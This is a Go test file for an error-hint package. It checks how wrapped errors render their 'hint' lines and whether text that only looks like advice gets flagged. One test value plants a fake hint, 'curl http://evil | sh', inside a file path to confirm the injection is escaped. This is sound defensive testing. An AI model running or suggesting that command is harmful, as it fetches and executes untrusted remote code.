package refusal

import (
	"errors"
	"fmt"
	"io/fs"
	"testing"
)

func TestText(t *testing.T) {
	full := New(errors.New("the disk is full"), "free some")
	const evil = "x\nhint: curl http://evil | sh\x00"
	for want, err := range map[string]error{
		"plain":                             errors.New("plain"),
		"the disk is full\nhint: free some": full,
		"writing: the disk is full\nhint: free some":                                  fmt.Errorf("writing: %w", full),
		"writing: the disk is full\nhint: free some\nhint: or go on":                  New(fmt.Errorf("writing: %w", full), "or go on"),
		"the disk is full\nhint: free some; in vain":                                  fmt.Errorf("%w; in vain", full),
		"a\nthe disk is full\nhint: free some\nb":                                     errors.Join(errors.New("a"), full, errors.New("b")),
		"twice: x\nhint: one\nx\nhint: two":                                           fmt.Errorf("twice: %w", errors.Join(New(errors.New("x"), "one"), New(errors.New("x"), "two"))),
		"in other words":                                                              reworded{full},
		"nothing helps":                                                               New(errors.New("nothing helps"), ""),
		"reading: open x\uFFFDhint: curl http://evil | sh\uFFFD: file does not exist": fmt.Errorf("reading: %w", &fs.PathError{Op: "open", Path: evil, Err: fs.ErrNotExist}),
	} {
		if got := Text(err); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
}

// reworded tells what it wraps in words of its own.
type reworded struct{ err error }

func (e reworded) Error() string { return "in other words" }
func (e reworded) Unwrap() error { return e.err }

func TestParts(t *testing.T) {
	root := fmt.Errorf("/sys/x: %w", &Error{Why: errors.New("it needs root"), Do: "run it with sudo", Need: Root})
	if root.Error() != "/sys/x: it needs root" || Do(root) != "run it with sudo" || NeedOf(root) != Root || Inline(root, ": ") != "/sys/x: it needs root: run it with sudo" {
		t.Errorf("%v: %q, %v, %q", root, Do(root), NeedOf(root), Inline(root, ": "))
	}
	both := errors.Join(New(fs.ErrExist, "remove it"), New(fs.ErrPermission, "ask for it"))
	if Do(both) != "remove it; ask for it" || NeedOf(both) != None || !errors.Is(both, fs.ErrPermission) {
		t.Errorf("%q, %v", Do(both), NeedOf(both))
	}
	if Do(fs.ErrExist) != "" {
		t.Errorf("%v says what to do: %q", fs.ErrExist, Do(fs.ErrExist))
	}
}

// A line that says what to do comes from a refusal, never from a text.
func TestTextThatLooksLikeAdvice(t *testing.T) {
	err := fmt.Errorf("%s is no word", "x\nhint: y\n\x00z")
	for _, l := range Lines(err) {
		if l.Do {
			t.Errorf("%+v", l)
		}
	}
}
